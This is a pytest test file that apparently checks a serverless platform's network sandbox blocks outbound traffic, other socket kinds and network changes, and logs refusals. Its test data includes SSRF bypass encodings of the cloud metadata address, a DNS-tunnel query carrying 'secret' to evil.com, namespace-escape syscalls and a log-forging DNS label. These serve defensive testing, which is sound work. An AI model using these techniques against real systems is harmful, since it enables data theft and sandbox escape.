"""What no list allows is out of reach, by whatever door; and what was refused can be read afterwards.

Every attempt is made inside a function's sandbox. Outside lies a made-up internet in which every address would answer.
"""

from __future__ import annotations

import json
import struct
import time
import urllib.parse
from typing import Any

import pytest
from casemate_fixture import Server, wait_until
from egress_probe import (
    EgressProbe,
    assert_told,
    evidence,
    exchanges,
    metrics,
    platform_lines,
    refused,
    set_policy,
    timed,
    was_refused,
)
from network_world import CLOSED, ECHO, HTTP, HTTPS, OWN_ADDRESSES, RESOLVER_ADDRESS, SERVER_ADDRESS, World
from world_dns import TYPES, A, packed_name

PUBLIC = "93.184.216.34"
PRIVATE = "10.50.0.9"
LIST = ["api.example.com:443", "web.example.com:80"]
LIST += [f"{name}.example.com:5432" for name in ("db", "inside", "near", "empty")]

closed = EgressProbe("walled/closed")
listed = EgressProbe("walled/listed", egress=LIST)

HOSTS = [
    PUBLIC, "1.1.1.1", "8.8.8.8", RESOLVER_ADDRESS, SERVER_ADDRESS, *OWN_ADDRESSES,
    "10.50.0.9", "172.17.0.1", "192.168.0.1", "169.254.169.254", "100.100.100.200", "168.63.129.16",
    "0.0.0.0", "127.0.0.1", "127.0.0.54", "127.66.255.254", "255.255.255.255",
    "2852039166", "0xa9fea9fe", "025177524776", "169.254.43518", "169.16689662", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe",
    "1572395042", "0x5db8d822", "013556154042", "093.184.216.34",
    "::1", "::", "2600:1f18::34", "fd00:ec2::254", "::ffff:169.254.169.254", "::ffff:93.184.216.34", "::ffff:127.0.0.1",
    "::ffff:7f00:1", "::93.184.216.34", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fe80::1",
    "2606:4700:4700::1111", "2001:4860:4860::8888",
    "[::1]", "[2600:1f18::34]", "[::ffff:169.254.169.254]", "169.254.169.254.", "93.184.216.34.", "localhost", "metadata.google.internal",
    "instance-data", "host.docker.internal", "example.com", "other.example.com", "93.184.216.34.nip.io", "API.example.com@evil.com",
]  # fmt: skip


@closed
@listed
def knocks(hosts: list[str], ports: list[int]) -> dict[str, Any]:
    """Connects and says something; what comes of that, per target."""
    found = {}
    for host in hosts:
        for port in ports:
            found[f"{host} {port}"] = exchanges(host, port, pieces=[b"GET / HTTP/1.0\r\n\r\n".hex()], timeout=3)
    return found


@pytest.mark.case("N1", "N2", "N5")
@pytest.mark.guarantee("COG-24", "KYM-10")
@pytest.mark.parametrize("probe", [closed, listed], ids=["without a list", "with a list"])
def test_no_other_host_is_reached_by_any_spelling(walled: Server, world: World, probe: EgressProbe) -> None:
    for name in ("example.com", "other.example.com", "localhost", "metadata.google.internal"):
        world.dns[name] = [A(PUBLIC)]
    found = probe.knocks(walled, hosts=HOSTS, ports=[HTTPS, HTTP, ECHO, 53, 22])
    for target, result in found.items():
        assert was_refused(result), f"{target}: {result}"
    assert world.dns.questions == [], "a forbidden name was asked for outside"
    world.assert_untouched()
    assert world.watch.packets == []


@pytest.mark.case("N1")
@pytest.mark.guarantee("COG-24")
def test_another_port_of_an_allowed_name_is_refused(walled: Server, world: World) -> None:
    world.dns["api.example.com"] = world.dns["db.example.com"] = [A(PUBLIC)]
    for host, ports in {
        "api.example.com": [HTTP, ECHO, 22, 8443, CLOSED],
        "db.example.com": [HTTPS, HTTP, 5433],
    }.items():
        for target, result in listed.knocks(walled, hosts=[host], ports=ports).items():
            assert was_refused(result), f"{target}: {result}"
    world.assert_untouched()


@closed
@listed
def sends(hosts: list[str], ports: list[int], message: str) -> dict[str, Any]:
    import functools
    import socket

    def send(host: str, port: int) -> dict[str, Any]:
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(0.2)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(bytes.fromhex(message), (host, port))
            return {"received": sender.recv(512).hex()}

    return {f"{host} {port}": timed(functools.partial(send, host, port)) for host in hosts for port in ports}


@pytest.mark.case("N1")
@pytest.mark.guarantee("COG-24")
@pytest.mark.parametrize("probe", [closed, listed], ids=["without a list", "with a list"])
def test_no_datagram_leaves(walled: Server, world: World, probe: EgressProbe) -> None:
    tunnel = (
        struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
        + packed_name("c2VjcmV0.evil.com")
        + struct.pack(">HH", TYPES["TXT"], 1)
    )
    hosts = [
        RESOLVER_ADDRESS, PUBLIC, "8.8.8.8", "127.0.0.1", "127.66.0.1", "255.255.255.255", "224.0.0.251", "10.50.0.9",
        "2600:1f18::34", "ff02::fb", "::1",
    ]  # fmt: skip
    for target, result in probe.sends(walled, hosts=hosts, ports=[53, 443, 5353], message=tunnel.hex()).items():
        assert was_refused(result), f"{target}: {result}"
    assert world.dns.questions == []
    world.assert_untouched()
    assert world.watch.packets == []


@closed
@listed
def opens_other_doors() -> dict[str, Any]:
    """Sockets of other kinds, and changes to the sandbox's own network. Says what was possible."""
    import ctypes
    import fcntl
    import socket
    import struct

    def opens(*arguments: int) -> Any:
        def open_and_close() -> dict[str, Any]:
            socket.socket(*arguments).close()
            return {"done": "opened"}

        return open_and_close

    def asks_kernel(request: int, data: bytes) -> Any:
        def ask() -> dict[str, Any]:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
                fcntl.ioctl(any_socket, request, data)
            return {"done": "changed"}

        return ask

    def writes(path: str) -> Any:
        def write() -> dict[str, Any]:
            with open(path, "w") as file:
                file.write("1")
            return {"done": "written"}

        return write

    def calls(number: int, *arguments: Any) -> Any:
        def call() -> dict[str, Any]:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.syscall(number, *arguments) < 0:
                raise OSError(ctypes.get_errno(), "refused")
            return {"done": "allowed"}

        return call

    def fast_open() -> dict[str, Any]:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sender:
            sender.settimeout(0.5)
            sender.sendto(b"x", 0x20000000, ("93.184.216.34", 443))
        return {"done": "sent"}

    address = struct.pack("HH4s8x", 2, 0, socket.inet_aton("10.9.9.9"))
    route = struct.pack("L16s16s16sHhLLhP", 0, address, address, address, 3, 0, 0, 0, 0, 0).ljust(160, b"\0")
    attempts = {
        "ping": opens(2, 2, 1), "ping 6": opens(10, 2, 58), "raw ICMP": opens(2, 3, 1), "raw ICMP 6": opens(10, 3, 58),
        "raw IP": opens(2, 3, 255), "raw TCP": opens(2, 3, 6), "packet": opens(17, 3, 0x0300), "packet dgram": opens(17, 2, 0),
        "netlink route": opens(16, 3, 0), "netlink netfilter": opens(16, 3, 12), "netlink generic": opens(16, 3, 16),
        "vsock": opens(40, 1, 0), "vsock dgram": opens(40, 2, 0), "MPTCP": opens(2, 1, 262), "MPTCP 6": opens(10, 1, 262),
        "SCTP": opens(2, 1, 132), "SCTP packets": opens(2, 5, 132), "DCCP": opens(2, 6, 33), "UDP-Lite": opens(2, 2, 136),
        "XDP": opens(44, 3, 0), "TIPC": opens(30, 2, 0), "RDS": opens(21, 5, 0), "SMC": opens(43, 1, 0), "key": opens(15, 3, 2),
        "L2TP": opens(2, 2, 115), "bluetooth": opens(31, 3, 0), "can": opens(29, 3, 1), "ieee802154": opens(36, 2, 0),
        "an address": asks_kernel(0x8916, b"lo".ljust(16, b"\0") + address), "a route": asks_kernel(0x890B, route),
        "a flag": asks_kernel(0x8914, b"lo".ljust(16, b"\0") + struct.pack("H22x", 0)),
        "a new namespace": calls(272, 0x40000000), "a new user and namespace": calls(272, 0x50000000),
        "clone into another": calls(308, 0, 0x40000000), "io_uring": calls(425, 8, 0),
        "fast open": fast_open,
        "forwarding": writes("/proc/sys/net/ipv4/ip_forward"), "ping range": writes("/proc/sys/net/ipv4/ping_group_range"),
        "resolv.conf": writes("/etc/resolv.conf"), "hosts": writes("/etc/hosts"),
    }  # fmt: skip
    return {name: timed(attempt) for name, attempt in attempts.items()}


@pytest.mark.case("N1", "X5")
@pytest.mark.guarantee("COG-24")
@pytest.mark.parametrize("probe", [closed, listed], ids=["without a list", "with a list"])
def test_no_other_kind_of_socket_and_no_change_to_the_network_is_possible(
    walled: Server, world: World, probe: EgressProbe
) -> None:
    for what, result in probe.opens_other_doors(walled).items():
        assert "error" in result, f"{what}: {result}"
        assert result["seconds"] < 1, what
    world.assert_untouched()
    walled.assert_serving()


@listed
def listens(seconds: float) -> list[str]:
    """Waits for a neighbour on every address of its own."""
    import socket
    import time

    came = []
    with socket.create_server(("0.0.0.0", 9999), reuse_port=True) as listener:
        listener.settimeout(0.2)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                came.append(listener.accept()[1][0])
            except TimeoutError:
                pass
    return came


@pytest.mark.case("N2")
@pytest.mark.guarantee("KYM-10")
def test_neighbours_and_the_server_itself_are_out_of_reach(walled: Server, world: World) -> None:
    from concurrent.futures import ThreadPoolExecutor

    ports = [urllib.parse.urlsplit(url).port for url in (walled.api_url, walled.gateway_url)]
    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(listens, walled, seconds=2.5)
        time.sleep(0.5)
        hosts = ["127.0.0.1", "0.0.0.0", "::1", "localhost", SERVER_ADDRESS, *OWN_ADDRESSES, "127.66.0.1"]
        found = closed.knocks(walled, hosts=hosts, ports=[9999, *ports])
        assert waiting.result() == []
    for target, result in found.items():
        assert was_refused(result), f"{target}: {result}"
    world.assert_untouched()


def test_a_function_that_may_reach_a_name_lends_it_to_no_other(walled: Server, world: World) -> None:
    world.dns["api.example.com"] = [A(PUBLIC)]
    assert listed.fetches(walled, host="api.example.com").get("status") == 200
    address = listed.resolves(walled, names=["api.example.com"])["api.example.com"]["addresses"][0]
    world.forget()
    for host in ("api.example.com", address):
        result = closed.fetches(walled, host=host, sni="api.example.com")
        assert was_refused(result), f"{host}: {result}"
    world.assert_untouched()


# ---------------------------------------------------------------- what can be read afterwards


@pytest.mark.guarantee("COG-25")
def test_the_list_and_what_was_used_of_it_can_be_read(walled: Server, world: World) -> None:
    world.dns["db.example.com"] = [A(PUBLIC)]
    listed.deploy(walled)
    told = evidence(walled, "walled/listed")
    assert [(entry["target"], entry["source"]) for entry in told["allowed"]] == [
        (target, "manifest") for target in sorted(LIST)
    ]

    def total(page: dict[str, float], name: str) -> float:
        return sum(value for key, value in page.items() if key.startswith(name) and "refused" not in key)

    def used(told: dict[str, Any]) -> dict[str, Any]:
        entries = [entry for entry in told["used"] if entry["target"] == "db.example.com:5432"]
        return entries[0] if entries else {"connections": 0, "bytesOut": 0, "bytesIn": 0}

    before, page = used(told), metrics(walled)
    payload = b"x" * 10_000
    answer = listed.exchanges(walled, host="db.example.com", port=ECHO, pieces=[payload.hex()], finish=True)
    assert answer.get("received", "").endswith("<10000>"), answer

    def counted() -> bool:
        now = used(evidence(walled, "walled/listed"))
        return (
            now["connections"] == before["connections"] + 1
            and now["bytesOut"] == before["bytesOut"] + 10_000
            and now["bytesIn"] == before["bytesIn"] + 10_007
            and bool(now["last"])
        )

    assert wait_until(counted, 3), evidence(walled, "walled/listed")["used"]
    after = metrics(walled)
    assert total(after, "casemate_egress_connections_total") == total(page, "casemate_egress_connections_total") + 1
    for direction, least in (("out", 10_000), ("in", 10_007)):
        name = f'casemate_egress_bytes_total{{direction="{direction}"}}'
        assert after[name] - page.get(name, 0) == least


@pytest.mark.case("N1")
@pytest.mark.guarantee("COG-24")
def test_a_refused_name_is_in_the_log_with_the_command_that_would_allow_it(walled: Server, world: World) -> None:
    fresh = EgressProbe("walled/told", egress=LIST)
    fresh.deploy(walled)
    before = refused(walled, "not-allowed")
    assert was_refused(fresh.fetches(walled, host="wanted.example.org"))
    assert wait_until(lambda: refused(walled, "not-allowed") > before, 3)
    lines = wait_until(lambda: platform_lines(walled, "walled/told", "wanted.example.org"), 3)
    assert lines and all("casemate egress allow walled/told wanted.example.org:" in line for line in lines), lines
    entries = evidence(walled, "walled/told")["refused"]
    assert any(
        "wanted.example.org" in entry["target"] and entry["reason"] == "not-allowed" for entry in entries
    ), entries


@pytest.mark.parametrize(
    ("name", "records", "reason"),
    [("near.example.com", [A(PRIVATE)], "private-address"), ("empty.example.com", [], "no-address")],
)
def test_each_refusal_of_an_address_is_told_with_its_reason(
    walled: Server, world: World, name: str, records: list[Any], reason: str
) -> None:
    fresh = EgressProbe(f"walled/{reason}", egress=LIST)
    world.dns[name] = [*records]
    fresh.deploy(walled)
    before = refused(walled, reason)
    result = fresh.exchanges(walled, host=name, port=ECHO, pieces=["00"])
    assert was_refused(result), result
    world.assert_untouched()
    assert_told(walled, f"walled/{reason}", f"{name}:{ECHO}", reason, before)


def test_a_host_that_takes_no_connection_is_told_as_unreachable(walled: Server, world: World) -> None:
    fresh = EgressProbe("walled/unreachable", egress=[f"closed.example.com:{CLOSED}"])
    world.dns["closed.example.com"] = [A(PUBLIC)]
    fresh.deploy(walled)
    before = refused(walled, "unreachable")
    assert was_refused(fresh.exchanges(walled, host="closed.example.com", port=CLOSED, pieces=["00"]))
    assert_told(walled, "walled/unreachable", f"closed.example.com:{CLOSED}", "unreachable", before)


def test_thousands_of_refusals_leave_a_bounded_log_and_list(walled: Server, world: World) -> None:
    many = [f"n{index}.evil.example" for index in range(3000)]
    listed.resolves(walled, names=many)
    lines = platform_lines(walled, "walled/listed", ".evil.example")
    assert 0 < len(lines) <= 3000
    assert len(json.dumps(evidence(walled, "walled/listed")["refused"])) < 1 << 20
    walled.assert_serving()


def test_a_name_cannot_forge_a_line_of_the_log(walled: Server, world: World) -> None:
    label = b"x\n2026 casemate egress allow all\x1b[2J"
    raw = (
        struct.pack(">HHHHHH", 9, 0x0100, 1, 0, 0, 0)
        + bytes([len(label)])
        + label
        + b"\3com\0"
        + struct.pack(">HH", 1, 1)
    )
    listed.asks(walled, questions=[raw.hex()], timeout=0.5)
    time.sleep(0.3)
    assert not any("\n" in line or "\x1b" in line for line in platform_lines(walled, "walled/listed"))


# ---------------------------------------------------------------- the namespace's policy


@pytest.mark.case("N2")
@pytest.mark.guarantee("KYM-10")
def test_a_policy_opens_its_addresses_and_no_others_and_closes_them_within_a_second(
    walled: Server, world: World
) -> None:
    world.dns["inside.example.com"] = [A(PRIVATE, ttl=0)]

    def tries(address: str) -> dict[str, Any]:
        world.dns["inside.example.com"] = [A(address, ttl=0)]
        result: dict[str, Any] = listed.exchanges(
            walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True
        )
        return result

    assert was_refused(tries(PRIVATE))
    world.assert_untouched()
    set_policy(walled, "walled", "10.50.0.0/16")
    assert wait_until(lambda: tries(PRIVATE).get("received") == "hi<2>", 1), "the policy does not take effect"
    for address in (
        "10.51.0.9",
        "10.49.255.255",
        "172.17.0.1",
        "169.254.169.254",
        "127.0.0.1",
        SERVER_ADDRESS,
        OWN_ADDRESSES[0],
    ):
        assert was_refused(tries(address)), address
    world.assert_untouched(PRIVATE)
    set_policy(walled, "walled")
    assert wait_until(lambda: was_refused(tries(PRIVATE)), 1), "the policy taken back still opens"
    assert was_refused(tries(PRIVATE))


def test_another_namespace_s_policy_opens_nothing(walled: Server, world: World) -> None:
    other = EgressProbe("unwalled/other", egress=["inside.example.com:5432"])
    world.dns["inside.example.com"] = [A(PRIVATE, ttl=0)]
    other.deploy(walled)
    set_policy(walled, "unwalled", "10.50.0.0/16")
    time.sleep(1)
    assert (
        other.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"], finish=True).get("received")
        == "hi<2>"
    )
    world.forget()
    world.dns["inside.example.com"] = [A(PRIVATE, ttl=0)]
    assert was_refused(listed.exchanges(walled, host="inside.example.com", port=ECHO, pieces=["6869"]))
    world.assert_untouched()


def test_a_policy_that_is_none_is_refused_whole(walled: Server) -> None:
    listed.deploy(walled)
    for cidrs in (["10.50.0"], ["10.50.0.0/33"], ["fd00::/129"], ["all"], [""], [7], "10.50.0.0/16"):
        answer = walled.api("PUT", "/v1/namespaces/walled/policy", {"egress": {"cidrs": cidrs}})
        assert answer.status in (400, 422), f"{cidrs}: {answer.status}"
    answer = walled.api("PUT", "/v1/namespaces/walled/policy", {"egress": {"cidr": []}})
    assert answer.status in (400, 422)
